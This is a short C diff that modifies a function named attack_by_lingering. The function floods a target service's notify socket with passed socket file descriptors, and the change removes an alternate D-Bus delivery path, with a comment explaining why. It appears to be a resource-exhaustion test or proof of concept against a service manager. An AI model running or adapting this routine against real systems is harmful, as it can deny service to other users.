@@ -85,26 +85,21 @@ static void send_descriptor(int notify, int fd)
     sendmsg(notify, &header, MSG_DONTWAIT);
 }
 
+/* Not over the bus: dbus-daemon closes what its receiver does not take, and is held up by it. */
 void attack_by_lingering(const struct target *target, int number)
 {
     struct sockaddr_in address;
 
+    (void)number;
     become(UID_LINGERING);
     listen_anywhere(&address);
     int notify = notify_connect(target->notify);
-    sd_bus *bus = world_connect(target->address);
     for (int sent = 0; sent < SOCKETS_MAX; sent++) {
         int fd = full_socket(&address);
-        if (fd >= 0 && number % 2 == 0)
+        if (fd >= 0) {
             send_descriptor(notify, fd);
-        else if (fd >= 0)
-            sd_bus_call_method_async(bus, NULL, NAME, "/org/proctor1", MANAGER, "Nothing", NULL,
-                                     NULL, "h", fd);
-        sd_bus_flush(bus);
-        while (sd_bus_process(bus, NULL) > 0)
-            ;
-        if (fd >= 0)
             close(fd); /* not the last one, as long as it is on its way */
+        }
         pause_msec(25);
     }
     for (;;)
